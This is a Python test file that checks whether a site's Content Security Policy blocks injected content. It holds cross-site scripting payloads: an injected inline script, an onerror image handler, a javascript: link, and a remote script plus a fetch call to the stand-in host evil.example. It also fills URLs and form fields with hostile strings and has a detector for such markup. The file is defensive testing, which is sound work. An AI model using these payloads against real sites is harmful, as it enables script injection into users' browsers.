"""The policy of the pages: scripts that were not built into them do not run, no host is asked."""

import re
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import pytest
from copies import HOSTILE
from in_page import visiting
from playwright.sync_api import Browser, Page
from test_comfort import PAGES

from dev.looked_at import settled, until
from generator.site.publish.folder import guarded, hash_of, inline, policy

PAGE = (
    '<!doctype html><html><head><meta charset="utf-8"><title>x</title>'
    "<script>let here = 1</script><script src=x.js></script>"
    '<script type="application/ld+json">{"a": 1}</script></head><body>{}</body></html>'
)

STATED = re.compile(r'http-equiv="Content-Security-Policy" content="([^"]*)"')
WATCH = """addEventListener("securitypolicyviolation", (e) =>
  (window.stopped ??= []).push(e.effectiveDirective + " " + e.blockedURI + " " + e.sourceFile))"""

INTRUDE = """() => {
  const script = document.createElement("script");
  script.textContent = "window.hacked = 1";
  document.body.append(script);
  const box = document.createElement("div");
  box.innerHTML = '<img src=x: onerror="window.hacked = 2"><img src="https://evil.example/">'
    + '<a href="javascript:window.hacked = 3">x</a>';
  document.body.append(box);
  box.querySelector("a").click();
  const far = document.createElement("script");
  far.src = "https://evil.example/x.js";
  document.body.append(far);
  fetch("https://evil.example/").catch(() => 0);
}"""
"""All that a text could do that has got into a page."""


def test_a_page_names_the_scripts_that_stand_in_it_and_no_others() -> None:
    page = guarded(PAGE)
    assert [*inline(PAGE)] == ["let here = 1"]
    (content,) = STATED.findall(page)
    assert page.index("charset") < page.index("Content-Security") < page.index("<script")
    assert f"script-src 'self' '{hash_of('let here = 1')}';" in content
    assert "http" not in content
    assert content.endswith(";base-uri 'none';form-action 'self'")
    scripts = next(rule for rule in content.split(";") if rule.startswith("script-src"))
    assert "unsafe" not in scripts
    assert "data:" not in scripts
    assert content == policy(page), "the same whoever reads it"
    assert guarded("<html><head><title>x</title></head></html>").startswith(
        '<html><head><meta http-equiv="Content-Security-Policy"'
    )


def test_the_hash_is_that_of_the_standard() -> None:
    """The example of the specification of Content Security Policy, level 3."""
    expected = "sha256-qznLcsROx4GACP2dm0UCKCzCG+HiZ1guq6ZZDob/Tng="
    assert hash_of("alert('Hello, world.');") == expected


def test_every_page_of_the_site_has_its_policy(site: Path) -> None:
    pages = sorted(site.rglob("*.html"))
    assert len(pages) > 500
    for file in pages:
        text = file.read_text("utf-8")
        assert STATED.findall(text) == [policy(text)], file
        assert not re.search(r"<[a-z][^>]*\son[a-z]+\s*=", text), f"{file} has a handler"


@pytest.fixture
def watched(browser: Browser, address: str) -> Iterator[Page]:
    with visiting(browser, address) as page:
        page.add_init_script(WATCH)
        yield page


@pytest.mark.browser
def test_nothing_of_our_own_is_stopped_by_it(watched: Page) -> None:
    stopped: dict[str, object] = {}
    for kind in PAGES:
        watched.goto(kind)
        watched.evaluate("scrollTo(0, document.body.scrollHeight)")
        settled(watched)
        if found := watched.evaluate("window.stopped || []"):
            stopped[kind] = found
    assert stopped == {}


@pytest.mark.browser
def test_a_script_that_is_got_into_a_page_is_not_run_and_no_other_host_is_asked(
    watched: Page,
) -> None:
    failed: list[str | None] = []
    watched.on("requestfailed", lambda request: failed.append(request.failure))
    watched.goto("/situationer/kulorsvigt/")
    watched.evaluate(INTRUDE)
    until(watched, "window.stopped?.length >= 5")
    assert watched.evaluate("window.hacked") is None
    assert failed
    assert {*failed} == {"csp"}, "refused by the page, not by the net"


FILL = """(text) => {
  for (const field of document.querySelectorAll(
    "textarea, input:not([type]), input[type=text], input[type=search]")) {
    field.value = text;
    for (const kind of ["input", "change", "blur"])
      field.dispatchEvent(new Event(kind, {bubbles: true}));
    if (!field.closest("dialog.search")) for (const kind of ["keydown", "keyup"])  // it opens a hit
      field.dispatchEvent(new KeyboardEvent(kind, {key: "Enter", bubbles: true}));
  }
}"""
STRANGE = """[...document.querySelectorAll("*")].filter((each) =>
  [...each.attributes].some((a) => a.name.startsWith("on")
    || a.name === "href" && /^javascript:/i.test(a.value.trim()))
  || each.localName === "iframe" || /evil[.]example/.test(each.src || ""))
  .map((each) => each.outerHTML)"""
OUTSIDE = ("", "guide/", "traening/", "sager/", "ikke-her/")


@pytest.mark.browser
def test_what_comes_from_outside_is_only_text_in_every_tool(watched: Page, site: Path) -> None:
    """Hostile texts in the address, as in a shared link, and in every field that can be filled."""
    texts = [text for text in HOSTILE if "<" in text or "javascript:" in text or '"' in text]
    names = (path.name for path in sorted((site / "vaerktoejer").iterdir()))
    tools = [f"vaerktoejer/{name}/" for name in names if not re.fullmatch(r"kp-\d+", name)]
    watched.add_init_script("window.alert = () => { window.hacked = 1 }")
    for page in (*OUTSIDE, *(tool for tool in tools if (site / tool).is_dir())):
        every = quote(" ".join(texts))
        watched.goto(f"/{page}?q={every}&a={every}#a={every}&{every}")
        watched.evaluate(FILL, "\n".join(texts))
        settled(watched)
        assert watched.evaluate("location.pathname") == f"/{page}"
        assert watched.evaluate("window.hacked") is None, page
        assert watched.evaluate(STRANGE) == [], page
